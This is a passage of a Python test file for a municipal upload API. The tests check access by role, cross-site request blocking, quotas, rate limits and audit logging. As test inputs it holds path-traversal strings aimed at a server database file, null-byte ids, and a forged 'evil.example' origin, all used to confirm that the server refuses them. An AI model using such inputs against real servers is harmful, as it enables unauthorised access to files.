    assert json.loads(town.written("upload.refused")[0]["detail"]) == {"why": "picture"}
    assert town.send("resident", b"\0" * ((16 << 20) + 1)).status_code == 413


@pytest.mark.parametrize("who", ["anonymous", "security_admin", "auditor", "system"])
def test_to_whoever_may_send_nothing_there_is_no_such_address(town: Sent, who: str) -> None:
    headers = {**OWN, **town.headers.get(who, {})}
    for method, address in (
        ("POST", "/api/v1/uploads"),
        ("GET", "/api/v1/uploads"),
        ("GET", "/api/v1/uploads/" + "a" * 28),
        ("DELETE", "/api/v1/uploads/" + "a" * 28),
    ):
        shut, unknown = (town.client.request(method, a, headers=headers) for a in (address, "/nothing-here"))
        assert (shut.status_code, shut.content) == (404, unknown.content)
        assert shut.headers.keys() == unknown.headers.keys()


def test_a_file_is_taken_from_our_own_page_with_the_sessions_token_only(town: Sent) -> None:
    shown = town.headers["resident"]
    foreign = {**shown, "origin": "https://evil.example", "sec-fetch-site": "cross-site"}
    bare = {**OWN, "cookie": shown["cookie"]}
    for headers in (foreign, bare):
        assert town.client.post("/api/v1/uploads", content=picture(), headers=headers).status_code == 403
        assert town.client.delete("/api/v1/uploads/" + "a" * 28, headers=headers).status_code == 403


def test_another_persons_file_is_answered_like_one_that_never_was(town: Sent) -> None:
    name = town.send("grid_worker", picture()).json()["id"]
    never = "b" * 28
    for who in ("resident", "planner", "data_engineer"):
        for ask in (lambda n, who=who: town.get(who, f"/api/v1/uploads/{n}"), lambda n, who=who: town.delete(who, n)):
            real, none = ask(name), ask(never)
            assert (real.status_code, real.content) == (none.status_code, none.content)
            assert real.status_code == 404
            assert real.headers.keys() == none.headers.keys()
    for wrong in ("..%2f..%2frun%2fops.sqlite", "%2e%2e", "day.json", "..%5c", "%00", "a" * 3000):
        assert town.get("grid_worker", f"/api/v1/uploads/{wrong}").status_code == 404


def test_an_official_reads_what_the_area_sent_for_a_purpose_and_never_deletes_it(town: Sent) -> None:
    name = town.send("grid_worker", picture()).json()["id"]
    address = f"/api/v1/uploads/{name}"
    plain = town.get("official", address)
    assert (plain.status_code, plain.json()["code"]) == (403, "needs_purpose")
    read = town.get("official with a purpose", address)
    assert (read.status_code, read.headers["content-type"]) == (200, "image/jpeg")
    entry = town.written("upload.read")[0]
    assert (entry["role"], entry["purpose"], json.loads(entry["detail"])["upload"]) == ("official", "visit", name)
    assert town.delete("official with a purpose", name).status_code == 404
    far = Shelf(data=town.front.state.who.settings.data).keep(
        BERT, made_of(), sent_bytes=1, area="330521100000", now=NOW, most=MOST, zone="Asia/Shanghai"
    )
    assert town.get("official with a purpose", f"/api/v1/uploads/{far.id}").status_code == 404


def test_past_the_quota_it_is_said_how_much_and_others_go_on(town: Sent) -> None:
    who = town.front.state.who
    before, who.settings = who.settings, replace(who.settings, upload_day_count=1)
    try:
        assert town.send("data_engineer", picture()).status_code == 201
        answer = town.send("data_engineer", picture())
        assert (answer.status_code, answer.json()["code"]) == (403, "upload_quota")
        assert answer.json()["where"]["used_count"] == "1"
        assert town.send("planner", picture()).status_code == 201
    finally:
        who.settings = before


def test_ones_flood_of_files_is_told_to_wait(town: Sent) -> None:
    who = town.front.state.who
    before, who.limits = (
        who.limits,
        Limits({k: Rate(per_s=0.01, burst=1) if k == "uploads" else r for k, r in RATES.items()}),
    )
    try:
        assert town.send("resident", b"x").status_code == 415
        answer = town.send("resident", b"x")
        assert answer.status_code == 429
        assert int(answer.headers["retry-after"]) >= 1
        assert town.send("planner", b"x").status_code == 415
    finally:
        who.limits = before


def test_no_address_serves_the_folder_of_files(town: Sent) -> None:
    upload = town.send("planner", picture()).json()
    for address in (
        "/uploads/",
        f"/uploads/{upload['id']}",
        f"/uploads/{upload['id']}.jpg",
        f"/assets/../uploads/{upload['id']}",
        f"/assets/%2e%2e/%2e%2e/uploads/{upload['id']}",
        f"/map-assets/x/../../uploads/{upload['id']}",
    ):
        assert town.get("planner", address).status_code in (404, 400)


def test_every_reason_has_words_in_both_languages_and_its_numbers() -> None:
    for code, (zh, en) in kinds.WORDS.items():
        told = kinds.refusal(code)
        assert told.where["why"] == code
        assert "{" not in told.zh + told.en
        assert zh
        assert en
    assert kinds.refusal("made up").where["why"] == "slow"
    assert quota.of(Settings()).day_count > 0
